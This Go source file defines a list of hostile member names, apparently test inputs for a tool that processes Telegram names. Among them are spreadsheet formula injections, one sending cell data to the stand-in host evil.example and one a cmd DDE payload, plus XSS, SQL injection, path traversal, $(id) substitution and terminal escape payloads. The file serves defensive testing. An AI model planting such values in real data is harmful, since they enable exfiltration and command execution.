package people

import "strings"

// maxName is how many characters Telegram leaves of a name.
const maxName = 64

// hostileNames are taken in turn. Each is something a member really could be called.
var hostileNames = []Person{
	{FirstName: `=HYPERLINK("http://evil.example/?"&A1,"open me")`},
	{FirstName: "+1+1", LastName: "-2+3"},
	{FirstName: "@SUM(1+1)*cmd|' /C calc'!A0"},
	{FirstName: "\t=1+1", LastName: "\r=2+2"},
	{FirstName: "\x1b[31mred\x1b[0m", LastName: "\x1b]0;title\x07"},
	{FirstName: "\x1b[2J\x1b[H", LastName: "\u009b31m"},
	{FirstName: "Ann\u202egnp.exe", LastName: "\u2066iso\u2069"},
	{FirstName: "\u200bzero\u200dwidth\u2060", LastName: "\ufeff"},
	{FirstName: "<script>alert(1)</script>", LastName: "<b>bold</b>"},
	{FirstName: `"><img src=x onerror=alert(1)>`, LastName: "&lt;&amp;"},
	{FirstName: "two\nlines", LastName: "a\r\nb"},
	{FirstName: "a,b;c\td", LastName: `"quoted","cells"`},
	{FirstName: strings.Repeat("W", maxName), LastName: strings.Repeat("m", maxName)},
	{FirstName: strings.Repeat("漢", maxName)},
	{FirstName: "Z" + strings.Repeat("\u0324\u0301\u0489", 19) + "algo"},
	{FirstName: "\u2800\u2800\u2800"},
	{FirstName: "\u3164", LastName: "\u00a0"},
	{FirstName: "Deleted Account"},
	{FirstName: "_*[x](tg://user?id=1)`~", LastName: "||spoiler||"},
	{FirstName: "{{.Secret}}", LastName: "${HOME} %s %n $(id)"},
	{FirstName: "../../etc/passwd", LastName: `C:\con`},
	{FirstName: "'; DROP TABLE members; --", LastName: "NULL"},
	{FirstName: "nul\x00byte", LastName: "\x7fdel\x08\x08\x08"},
	{FirstName: "\u0627\u0644\u0644\u0651\u064e\u200f 12", LastName: "\u061cabc"},
}
